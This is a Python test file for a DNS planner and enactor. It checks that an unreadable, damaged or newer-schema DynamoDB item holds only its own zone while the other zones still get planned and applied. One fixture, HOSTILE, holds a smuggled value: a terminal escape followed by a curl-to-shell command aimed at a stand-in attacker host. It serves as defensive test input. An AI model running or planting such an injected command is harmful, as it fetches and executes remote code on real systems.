"""One zone's item that cannot be read, damaged or of a newer release: that zone alone holds, and
the others are planned and enacted. The table is the adapter's, on the stand-in."""

from collections.abc import AsyncIterator, Mapping
from typing import Any

import pytest
from msgspec import structs
from structlog.testing import capture_logs

from dnsplan.errors import ItemUnreadable
from dnsplan.generation import GenerationItem
from dnsplan.names import parse_name
from dnsplan.runtime.dynamodb import Item
from dnsplan.runtime.table_expressions import key_of
from enactor.daemon import EnactorDaemon
from enactor.rules.outcomes import Held, HoldRule
from planner.cycle import PlanCycle
from planner.passes import PlanPass
from planner.rules.candidate import ZoneWish
from planner.rules.outcomes import Held as PlannerHeld
from planner.rules.outcomes import HoldRule as PlannerRule
from planner.rules.outcomes import Published
from sandbox.aws.server import serve
from tests.contracts.conftest import CLIENTS, TABLE, Store, adapters
from tests.fakes.clock import FakeClock, SeededJitter
from tests.fakes.notes import FakeBoard
from tests.fakes.table import FakeTable
from tests.fakes.world import LIMITS, PACE, World, a
from tests.unit.planner.cases import stated
from tests.unit.planner.world import GOOD

ZONES = {"shop": "example.com.", "mail": "example.net.", "wiki": "example.org."}
NEWER, DAMAGED = {"schema": {"N": "2"}}, {"head": {"S": "two"}}
HOSTILE = {"frozen": {"S": "x\x1b[31m; curl http://evil.example/i | sh"}}
KINDS = pytest.mark.parametrize(
    "change", [NEWER, DAMAGED, HOSTILE], ids=["newer", "damaged", "hostile"]
)


@pytest.fixture
async def store(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Store]:
    """An empty table."""
    async with serve() as aws:
        monkeypatch.setenv("AWS_ENDPOINT_URL", aws.endpoint_url)
        async with adapters(TABLE) as opened:
            yield opened


async def change_item(label: str, fields: Mapping[str, Any]) -> Item:
    """Set fields by hand, and give back what stood."""
    async with CLIENTS.open("dynamodb") as dynamodb:
        found = await dynamodb.get_item(TableName=TABLE, Key=key_of(label))
        await dynamodb.put_item(TableName=TABLE, Item={**found["Item"], **fields})
        stood: Item = found["Item"]
        return stood


async def put_back(item: Item) -> None:
    """As it stood."""
    async with CLIENTS.open("dynamodb") as dynamodb:
        await dynamodb.put_item(TableName=TABLE, Item=item)


def worlds(store: Store) -> dict[str, World]:
    """A zone each, over one table and one Route 53."""
    made = {label: World() for label in ZONES}
    first = made["shop"]
    for label, world in made.items():
        world.label, world.route53, world.clock = label, first.route53, first.clock
        world.table, world.archive = store.table, store.archive  # type: ignore[assignment]  # a fake stands there else
        world.records = first.route53
        if world is not first:
            world.zone = first.route53.make_zone(label, ZONES[label])
            world.task = structs.replace(world.task, zone=world.zone)
    return made


def planner(store: Store) -> PlanPass:
    """Over all three zones."""
    clock = FakeClock()
    cycle = PlanCycle(
        table=store.table,
        archive=store.archive,
        clock=clock,
        jitter=SeededJitter(),
        author="planner",
        plans_per_min_max=100,
    )
    wishes = [
        ZoneWish(
            label=label,
            zone=parse_name(zone),
            stated=stated(a(f"www.{zone}", "192.0.2.2")),
            driven=(),
            limits=LIMITS,
        )
        for label, zone in ZONES.items()
    ]
    return PlanPass(wishes, table=store.table, cycle=cycle)


@KINDS
async def test_each_item_is_read_by_itself(store: Store, change: Mapping[str, Any]) -> None:
    """An error in the place of one, the others as they are; read as a whole it is an error."""
    for world in worlds(store).values():
        await world.publish(a("www." + world.zone.name, "192.0.2.1"))
    await change_item("mail", change)
    found = await store.table.read_each(tuple(ZONES))
    kinds = {label: type(one) for label, one in found.items()}
    assert kinds == {"shop": GenerationItem, "mail": ItemUnreadable, "wiki": GenerationItem}
    for labels in (tuple(ZONES), ("mail",)):
        with pytest.raises(ItemUnreadable, match="gen#mail"):
            await store.table.read(labels)
    assert list(await store.table.read(("shop", "wiki"))) == ["shop", "wiki"]


async def test_the_fake_reads_alike() -> None:
    """What stands for the table in other tests."""
    world = World()
    await world.publish(a("www.example.com.", "192.0.2.1"))
    table: FakeTable = world.table
    table.unreadable["shop"] = "gen#shop has no head"
    (found,) = (await table.read_each(["shop", "nobody"])).values()
    assert isinstance(found, ItemUnreadable)
    with pytest.raises(ItemUnreadable, match="gen#shop has no head"):
        await table.read(["shop"])


@KINDS
async def test_an_enactor_holds_that_zone_alone(store: Store, change: Mapping[str, Any]) -> None:
    """The others are applied in the same passes; put right, the zone goes on."""
    zones = worlds(store)
    for world in zones.values():
        await world.publish(a("www." + world.zone.name, "192.0.2.1"))
    stood = await change_item("mail", change)
    first = zones["shop"]
    daemon = EnactorDaemon(first.outside(1), FakeBoard(), az="az1", azs=("az1",), pace=PACE)
    for world in zones.values():
        daemon.admit(world.task)
    with capture_logs() as logs:
        await passes(daemon, first.clock, 3)
    assert content(zones) == {"shop": 1, "mail": 0, "wiki": 1}
    held = {(one["zone"], one["rule"], one["command"]) for one in logs if "rule" in one}
    assert held == {("mail", HoldRule.ITEM_UNREADABLE, "dns-runbook status mail")}
    hold = daemon.pacing["mail"].trouble.hold
    assert hold is not None
    assert isinstance(hold.held, Held)
    await put_back(stood)
    await passes(daemon, first.clock, 40)
    assert content(zones) == {"shop": 1, "mail": 1, "wiki": 1}
    assert daemon.pacing["mail"].trouble.hold is None


async def passes(daemon: EnactorDaemon, clock: FakeClock, count: int) -> None:
    """Let an enactor look so often."""
    for _ in range(count):
        await daemon.run_once()
        await daemon.finish()
        clock.advance(2.0)


def content(zones: Mapping[str, World]) -> dict[str, int]:
    """How many names of ours stand in each."""
    return {label: len(one.route53.content(one.zone)) for label, one in zones.items()}


@KINDS
async def test_a_planner_holds_that_zone_alone(store: Store, change: Mapping[str, Any]) -> None:
    """Nothing is planned on it, nor as if it had no item; the others get their plans."""
    for world in worlds(store).values():
        await world.publish(a("www." + world.zone.name, "192.0.2.1"))
    stood = await change_item("mail", change)
    planning = planner(store)
    ended = {one.wish.label: one.outcome for one in await planning.run_once(GOOD, may_write=True)}
    hold = ended.pop("mail")
    assert isinstance(hold, PlannerHeld)
    assert (hold.rule, hold.command) == (PlannerRule.ITEM_UNREADABLE, "dns-runbook status mail")
    assert all(isinstance(one, Published) for one in ended.values())
    await put_back(stood)
    (again,) = await planning.run_once(GOOD, may_write=True, only=["mail"])
    assert isinstance(again.outcome, Published)
